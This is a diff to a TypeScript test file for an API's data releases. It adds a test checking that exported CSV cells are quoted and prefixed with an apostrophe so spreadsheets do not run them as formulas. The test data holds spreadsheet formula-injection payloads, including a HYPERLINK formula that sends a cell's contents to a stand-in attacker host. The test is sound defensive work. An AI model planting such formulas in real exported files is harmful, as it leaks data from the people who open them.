@@ -13,7 +13,14 @@ import { describe, expect, it } from "vitest";
 import { jcs, releaseHash, sha256 } from "../setup/api-canonical";
 import { apiClient, expectProblem } from "../setup/api-client";
 import { publishedFact, relationScenario, tokenFor } from "../setup/api-factories";
-import { cutRelease, downloadRelease, parseNdjson, type ReleaseLine, replayChanges } from "../setup/api-releases";
+import {
+  cutRelease,
+  downloadRelease,
+  parseCsv,
+  parseNdjson,
+  type ReleaseLine,
+  replayChanges,
+} from "../setup/api-releases";
 import { generalFact, unique } from "../setup/factories";
 
 const reader = apiClient();
@@ -59,12 +66,36 @@ describe("releases", () => {
     expect(json.release.name).toBe(name);
     expect(releaseHash(json.facts)).toBe(release.contentHash);
     const csv = (await download(name, "facts.csv")).bytes.toString("utf8");
-    expect(csv.split("\n")[0]).toMatch(/^factId,revisionId,revision,relation,/);
+    expect(csv.split("\n")[0]).toMatch(/^"factId","revisionId","revision","relation",/);
     expect(csv).toContain(kept.factId);
 
     // Asked about an instant in the release, reads name it.
     const page = await reader.json(`/api/v1/relations/${scenario.relation.slug}/facts?asOf=${release.asOf}`);
     expect(page).toMatchObject({ meta: { release: { name, contentHash: release.contentHash } } });
+  });
+
+  it("serves a CSV whose cells a spreadsheet never runs as formulas, and the exact text elsewhere", async () => {
+    const scenario = await relationScenario();
+    const formulas = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];
+    const facts = [];
+    for (const formula of formulas) facts.push(await publishedFact(scenario, `${formula} ${unique()}`));
+    const { secret } = await tokenFor("REVIEWER", ["releases:write"]);
+    const name = `csv.${unique()}`;
+    const release = await cut(secret, name);
+
+    const csv = (await download(name, "facts.csv")).bytes.toString("utf8");
+    const statements = new Map(parseCsv(csv).map((row) => [row.factId, row.statement]));
+    const ndjson = new Map(
+      parseNdjson((await download(name, "facts.ndjson")).bytes).map((l) => [l.factId, l.statement]),
+    );
+    for (const [i, fact] of facts.entries()) {
+      const exact = ndjson.get(fact.factId) as string;
+      expect(exact.startsWith((formulas[i] as string).trim())).toBe(true);
+      // In the CSV: a leading quote, and the cell quoted, so no spreadsheet evaluates it.
+      expect(statements.get(fact.factId)).toBe(`'${exact}`);
+      expect(csv).toContain(`"'${exact.replaceAll('"', '""')}"`);
+    }
+    expect(release.factCount).toBeGreaterThanOrEqual(formulas.length);
   });
 
   it("lists changes against the previous release, and never changes a released byte", async () => {
